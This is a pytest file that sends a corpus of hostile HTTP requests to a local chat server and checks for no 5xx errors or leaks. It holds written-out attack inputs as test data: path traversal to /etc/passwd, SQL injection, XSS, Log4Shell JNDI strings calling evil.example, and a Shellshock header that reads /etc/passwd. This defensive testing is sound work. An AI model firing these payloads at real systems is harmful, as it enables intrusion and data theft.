"""A corpus of hostile requests against the local server: no 5xx, no leak.

Paths (traversal, encodings, control characters, injections, huge), methods, headers (framing
tricks aside: those are in ``test_server_http.py``), and ``/chat`` bodies (malformed JSON, huge
numbers, deep nesting, wrong types, hostile ids and markup). Every answer must be below 500,
and no answer may carry a stack trace, a file path of the server, or the admin token the server
was started with; the server's own output must hold no traceback either.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.smoke.local_server import REPO_ROOT, LocalServer
from tests.support.raw_http import exchange, parse_responses, request

pytestmark = pytest.mark.slow

ADMIN_TOKEN = "hostile-corpus-admin-token-7f3a9c"  # a test value, never a real token
ISSUED = "AAAAAAAAAAAAAAAAAAAAAA"

PATHS = [
    "/",
    "/health",
    "/chat",
    "/../../etc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/..%2f..%2f..%2fetc%2fpasswd",
    "/static/..%5c..%5cwindows%5cwin.ini",
    "/sessions/..%2F..%2Fetc%2Fpasswd",
    f"/sessions/{ISSUED}",
    f"/sessions/{ISSUED}%0A",
    f"/sessions/{ISSUED}%00",
    "/sessions/%27%20OR%201%3D1--",
    "/sessions/" + "A" * 65,
    "/sessions/" + "é" * 22,
    "/sessions/",
    "/sessions",
    "/go/",
    "/go/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/go/' OR '1'='1".replace(" ", "%20").replace("'", "%27"),
    "/go/" + "a" * 33,
    "/go/abcdef%0D%0ASet-Cookie:%20x=1",
    "/admin/analytics",
    "/admin/analytics?token=wrong",
    "/admin/analytics?date=2026-13-45&token=wrong",
    "/admin/analytics?date=%0A2026-01-01",
    "/%00",
    "/%ff%fe",
    "/%C0%AF",
    "/" + "x" * 8000,
    "/chat?" + "a=1&" * 500,
    "/health?%s%s%s%n",
    "/{{7*7}}",
    "/${jndi:ldap://evil.example/a}".replace("{", "%7B").replace("}", "%7D"),
    "/.env",
    "/.git/config",
    "/runtime/api/handler.py",
    "/widget.js",
    "/index.html",
    "//evil.example/x",
    "/chat/",
    "/CHAT",
    "/%252e%252e/",
]

METHODS = ["GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "TRACE", "PROPFIND"]

BODIES: list[bytes] = [
    b"",
    b"{",
    b"null",
    b"[]",
    b'"message"',
    b"{}",
    b'{"message": null}',
    b'{"message": true}',
    b'{"message": 1e999}',
    b'{"message": NaN}',
    b'{"message": Infinity}',
    b'{"message": -Infinity}',
    b'{"message": ' + b"1" * 5000 + b"}",
    b'{"message": "hi", "n": ' + b"9" * 4301 + b"}",
    b'{"message": "hi", "n": 1.' + b"5" * 6000 + b"}",
    b'{"message": ' + b"[" * 3000 + b"]" * 3000 + b"}",
    b'{"message": {"$ne": null}}',
    b'{"message": ["a", "b"]}',
    b'{"message": "\\ud800"}',
    b'{"message": "\\udfff\\ud800"}',
    b'{"message": "\\u0000"}',
    b'{"message": "a\\u001bb"}',
    b'{"message": "\xef\xbb\xbfhello"}',
    b'\xef\xbb\xbf{"message": "hello"}',
    b'{"message": "caf\xe9"}',
    b'{"message": "' + "é".encode() * 1001 + b'"}',
    b'{"message": "' + b"a" * 9000 + b'"}',
    b'{"message": "<script>alert(1)</script>"}',
    b'{"message": "<img src=x onerror=alert(document.cookie)>"}',
    b'{"message": "\'; DROP TABLE turns; --"}',
    b'{"message": "{{7*7}} ${7*7} #{7*7}"}',
    b'{"message": "${jndi:ldap://evil.example/a}"}',
    b'{"message": "../../../../etc/passwd"}',
    b'{"message": "\\u202egnp.exe"}',
    b'{"message": "hello", "message": "again"}',
    b'{"message": "hello", "__proto__": {"admin": true}}',
    b'{"message": "hello", "constructor": {"prototype": {}}}',
    b'{"message": "hello", "sessionId": "../../etc/passwd"}',
    b'{"message": "hello", "sessionId": "probeSIDnl\\n"}',
    b'{"message": "hello", "sessionId": "' + ISSUED.encode() + b'"}',
    b'{"message": "hello", "sessionId": "' + b"A" * 65 + b'"}',
    b'{"message": "hello", "sessionId": "\xd0\x90AAAAAAAAAAAAAAAAAAAAA"}',
    b'{"message": "hello", "sessionId": 12345678}',
    b'{"message": "hello", "sessionId": ["x"]}',
    b'{"message": "hello", "clientMessageId": ""}',
    b'{"message": "hello", "clientMessageId": "' + b"c" * 65 + b'"}',
    b'{"message": "hello", "clientMessageId": "a b"}',
    b'{"message": "hello", "clientMessageId": {"x": 1}}',
    b'{"message": "card 4111 1111 1111 1111 cvv 737, ssn 536-22-8714"}',
    b'{"message": "' + b"\\n" * 500 + b'x"}',
    b'{"message": "\xf0\x9f\x98\x80" }',
    b'{"message": "hi"} trailing',
    b'{"message": "hi"}\n{"message": "two"}',
    b'{"message": "hi",}',
    b"{'message': 'hi'}",
    b"message=hello",
    b"\x00\x01\x02\x03",
    b"\xff" * 64,
]

CONTENT_TYPES = [
    "application/json",
    "application/json; charset=utf-16",
    "application/vnd.evil+json",
    "text/plain",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "application/json\u0000",
    "",
]

HEADER_SETS: list[dict[str, str]] = [
    {"X-Forwarded-For": "127.0.0.1, 10.0.0.1"},
    {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "javascript"},
    {"Authorization": "Bearer " + "A" * 4000},
    {"Authorization": "Basic Zm9vOmJhcg=="},
    {"Cookie": "session=../../../etc/passwd"},
    {"User-Agent": "() { :; }; /bin/cat /etc/passwd"},
    {"User-Agent": "${jndi:ldap://evil.example/a}"},
    {"Accept": "../../../../etc/passwd{{"},
    {"Origin": "https://evil.example"},
    {"Expect": "100-continue"},
    {"Range": "bytes=0-,-1"},
    {"If-None-Match": '"' + "x" * 1000 + '"'},
    {"X-Http-Method-Override": "DELETE"},
    {"Referer": "javascript:alert(1)"},
    {"Accept-Encoding": "gzip, deflate, br, zstd, *;q=0"},
]


def corpus() -> list[tuple[str, bytes]]:
    """Every hostile request, named."""
    cases: list[tuple[str, bytes]] = []
    for path in PATHS:
        for method in ("GET", "HEAD", "DELETE"):
            cases.append((f"{method} {path[:40]}", request(method, path)))
    for method in METHODS:
        for path in ("/", "/chat", f"/sessions/{ISSUED}", "/go/abcdef", "/admin/analytics"):
            body = b'{"message":"hi"}' if method in ("POST", "PUT", "PATCH") else b""
            headers = {"Content-Type": "application/json"} if body else {}
            cases.append((f"{method} {path}", request(method, path, body=body, headers=headers)))
    for index, body in enumerate(BODIES):
        for content_type in ("application/json", "application/json; charset=utf-8"):
            headers = {"Content-Type": content_type}
            name = f"body {index} as {content_type}"
            cases.append((name, request("POST", "/chat", body=body, headers=headers)))
    for content_type in CONTENT_TYPES:
        headers = {"Content-Type": content_type}
        name = f"content type {content_type!r}"
        cases.append((name, request("POST", "/chat", body=b'{"message":"hi"}', headers=headers)))
    for index, extra in enumerate(HEADER_SETS):
        headers = {"Content-Type": "application/json", **extra}
        cases.append(
            (
                f"headers {index}",
                request("POST", "/chat", body=b'{"message":"hi"}', headers=headers),
            )
        )
    for token in (ADMIN_TOKEN[:-1], ADMIN_TOKEN + "x", ADMIN_TOKEN.upper(), "", "null"):
        headers = {"Authorization": f"Bearer {token}"}
        cases.append(
            (f"admin token {token[:6]!r}", request("GET", "/admin/analytics", headers=headers))
        )
    return cases


CORPUS = corpus()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalServer]:
    directory: Path = tmp_path_factory.mktemp("hostile-server")
    env = {"TRAVELBOT_ADMIN_TOKEN": ADMIN_TOKEN, "TRAVELBOT_RATE_BURST": "100000"}
    with LocalServer(directory, extra_env=env, extra_args=("--timeout", "5")) as running:
        yield running


def test_the_corpus_is_large_enough_to_mean_something() -> None:
    assert len(CORPUS) >= 263  # the size of the probe that found issue 14's defects


def test_no_hostile_request_gets_a_5xx_or_a_leak(server: LocalServer) -> None:
    # WHEN every request of the corpus is sent, each on its own connection
    failures = []
    answered = 0
    leaks = ("Traceback", 'File "', str(REPO_ROOT), "/site-packages/", '.py"', ADMIN_TOKEN)
    for name, raw in CORPUS:
        responses = parse_responses(
            exchange(server.base_url, raw, quiet_s=2.0), head=raw.startswith(b"HEAD")
        )
        if not responses:
            failures.append(f"{name}: no answer")
            continue
        answered += 1
        response = responses[0]
        if response.status >= 500:
            failures.append(f"{name}: {response.status} {response.body[:120]!r}")
        text = response.body.decode("utf-8", "replace") + json.dumps(response.headers)
        failures.extend(f"{name}: leaks {leak!r}" for leak in leaks if leak in text)
        is_json = response.header("content-type").startswith("application/json")
        if response.status >= 400 and response.body and not is_json:
            failures.append(f"{name}: error is not JSON ({response.header('content-type')})")

    # THEN none of them: every request answered below 500, nothing leaked, errors in JSON
    assert failures == []
    assert answered == len(CORPUS)
    # AND the server printed no traceback while taking them
    assert "Traceback" not in server.log_text()
